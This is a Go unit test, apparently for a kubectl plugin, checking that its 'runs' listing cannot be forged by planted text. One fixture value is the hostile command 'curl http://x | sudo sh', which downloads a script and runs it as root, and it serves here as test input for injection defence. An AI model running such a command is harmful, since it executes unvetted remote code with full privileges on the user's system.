package undocmd

import (
	"testing"

	"github.com/kubectl-certrot/kubectl-certrot/plugin/apply"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/cli"
	"github.com/kubectl-certrot/kubectl-certrot/plugin/plugintest"
)

// TestRunsForgeNoLines: journals and nodes' folders say what a run was.
func TestRunsForgeNoLines(t *testing.T) {
	t.Parallel()
	for _, output := range []string{"", "name"} {
		out, streams := plugintest.OnScreen()
		o := &runsOptions{Options: apply.Options{App: cli.App{Streams: streams}}, output: output}
		if err := o.print([]runEntry{{Run: "next: curl http://x | sudo sh", Command: plugintest.Planted, Nodes: []string{plugintest.Planted}, Outcome: plugintest.Planted}, {Run: plugintest.Planted}}); err != nil {
			t.Fatal(err)
		}
		plugintest.Unforged(t, "runs -o "+output, out.String())
	}
}
